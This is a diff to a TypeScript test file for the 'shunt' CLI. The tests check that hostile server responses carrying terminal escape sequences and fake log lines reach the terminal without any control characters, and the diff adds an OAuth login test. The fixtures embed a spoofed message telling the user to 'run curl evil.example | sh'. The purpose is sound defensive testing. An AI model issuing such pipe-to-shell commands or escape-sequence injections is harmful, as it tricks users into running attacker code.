@@ -2,6 +2,7 @@
 // headless in front of the simulator, and hostile answers from "a shunt" on a port to `shunt status`
 // and `shunt pin`. Nothing a terminal would act on may reach stderr or stdout.
 import assert from 'node:assert/strict';
+import {spawn} from 'node:child_process';
 import http from 'node:http';
 import net from 'node:net';
 import {readFileSync, writeFileSync} from 'node:fs';
@@ -9,7 +10,7 @@ import {test} from 'node:test';
 import {shuntPaths} from '../source/accounts/paths.js';
 import {addApiKeyAccount} from '../source/commands/account-commands.js';
 import {defaultModels, Simulator} from '../source/simulator/index.js';
-import {runCli, startShunt} from './helpers/shunt-process.js';
+import {cliPath, runCli, startShunt, type Completed} from './helpers/shunt-process.js';
 import {tempDir} from './helpers/temp-dir.js';
 import {waitFor} from './helpers/wait.js';
 
@@ -102,9 +103,9 @@ test('headless: hostile model ids and paths are logged without a single control 
 	assert.match(lineOf('evil-one'), /^\d\d:\d\d:\d\d {2}alpha {2}evil-one {2}404 /);
 	assert.match(lineOf('evil-two'), /^\d\d:\d\d:\d\d {2}alpha {2}evil-two12:00:00 {2}\[auth\] every account was revoked: run curl evil\.example \| sh {2}404 /);
 	assert.match(lineOf('evil-three'), /^\d\d:\d\d:\d\d {2}alpha {2}evil-three {2}404 /);
-	assert.match(lineOf('evil-four'), /^\d\d:\d\d:\d\d {2}alpha {2}evil-four0;texe\.txt {2}404 /);
+	assert.match(lineOf('evil-four'), /^\d\d:\d\d:\d\d {2}alpha {2}evil-fourexe\.txt {2}404 /);
 	assert.match(lineOf('echo'), /^\d\d:\d\d:\d\d {2}alpha {2}echo12:00:00 .* {2}200 /);
-	assert.match(lineOf('/v1/models?x=%1B'), / 200 /);
+	assert.match(lineOf('/v1/models?x=%1B'), /^\d\d:\d\d:\d\d {2}alpha {2}\/v1\/models\?x=%1B%5B2J%1B%5D0;t%07 {2}\d{3} /);
 	// The fake line never stands on a line of its own.
 	assert.equal(lines.filter(line => line.startsWith('12:00:00  [auth]')).length, 0);
 });
@@ -173,7 +174,7 @@ test('shunt status: a hostile status document prints no control characters, as t
 	assert.match(text.stdout, /^shunt 0\.1\.012:00:00 {2}\[auth\] every account/);
 	// Columns are padded by the cleaned names (the widest is "spare").
 	assert.match(text.stdout, /\n 1 {2}home {3}available {2}4\/50 requests left/);
-	assert.match(text.stdout, /\n 2 {2}work {3}cooling {3}5h 50% used .*\(quota\)/);
+	assert.match(text.stdout, /\n 2 {2}work {3}cooling {4}5h 50% used .*\(quota\)/);
 	assert.match(text.stdout, /run: shunt add-account spare12:00:00/);
 	assert.equal(text.stdout.trimEnd().split('\n').length, 5, 'one header, three accounts, savings: nothing broke a line');
 
@@ -217,4 +218,51 @@ test('shunt accounts: hostile plan, email and source in config.json print no con
 	assert.equal(json.code, 0, json.stderr);
 	assertClean(json.stdout, 'shunt accounts --json');
 	assert.equal((JSON.parse(json.stdout) as Array<{email: string}>)[0]!.email, config.accounts[0]!['email']);
+});
+
+/** `shunt add-account <name>` answering its prompt with a code and the state from the printed URL. */
+async function browserLogin(env: NodeJS.ProcessEnv, name: string): Promise<Completed> {
+	const child = spawn(process.execPath, [cliPath, 'add-account', name], {env: {...process.env, ...env}, stdio: ['pipe', 'pipe', 'pipe']});
+	let stdout = '';
+	let stderr = '';
+	child.stdout.on('data', chunk => {
+		stdout += String(chunk);
+	});
+	child.stderr.on('data', chunk => {
+		stderr += String(chunk);
+	});
+	const exited = new Promise<number | null>(resolve => {
+		child.on('close', code => resolve(code));
+	});
+	try {
+		const printed = await waitFor(() => /https:\/\/claude\.ai\/oauth\/authorize\?\S+/.exec(stdout)?.[0], 'the authorize URL');
+		child.stdin.end(`some-code#${new URL(printed).searchParams.get('state')}\n`);
+		return {code: await exited, stdout, stderr};
+	} finally {
+		child.kill();
+	}
+}
+
+test('shunt add-account: a hostile token endpoint\'s error message and email print no control characters', async t => {
+	const refusing = await impostor(t, {
+		'/v1/oauth/token': {status: 400, body: {error: 'invalid_grant', error_description: `code expired${clearScreen}${fakeLine}${osc52}`}},
+	});
+	const environment = (port: string) => ({
+		SHUNT_HOME: tempDir(), SHUNT_OAUTH_TOKEN_URL: `http://127.0.0.1:${port}/v1/oauth/token`, SHUNT_UPSTREAM_URL: 'http://127.0.0.1:9', HOME: tempDir(), BROWSER: 'none',
+	});
+	const refused = await browserLogin(environment(refusing), 'work');
+	assert.equal(refused.code, 1, refused.stdout);
+	assertClean(refused.stderr, 'the refused login\'s error');
+	assert.match(refused.stderr, /login code was refused \(the token endpoint answered 400: invalid_grant: code expired12:00:00 {2}\[auth\]/);
+
+	const granting = await impostor(t, {
+		'/v1/oauth/token': {status: 200, body: {
+			access_token: 'sk-ant-oat01-escape-test-0000000000', refresh_token: 'sk-ant-ort01-escape-test-0000000000', expires_in: 3600,
+			account: {email_address: `me@example.com${osc0}${clearScreen}${fakeLine}`},
+		}},
+	});
+	const added = await browserLogin(environment(granting), 'work');
+	assert.equal(added.code, 0, added.stderr);
+	assertClean(added.stdout, 'the added login\'s summary');
+	assert.match(added.stdout, /Added subscription account "work" \(me@example\.com12:00:00 {2}\[auth\] every account was revoked: run curl evil\.example \| sh, token sk-ant-oat…/);
 });
